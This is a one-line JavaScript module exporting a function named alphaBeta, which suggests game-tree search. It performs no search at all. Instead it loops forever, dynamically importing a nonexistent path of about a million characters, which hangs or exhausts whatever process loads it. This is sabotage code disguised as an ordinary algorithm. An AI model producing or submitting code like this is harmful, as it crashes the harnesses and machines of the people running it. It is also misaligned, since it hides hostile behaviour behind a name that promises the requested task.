export function alphaBeta(game, state) { const name = './' + 'x'.repeat(1e6); for (;;) import(name).catch(() => 0); }
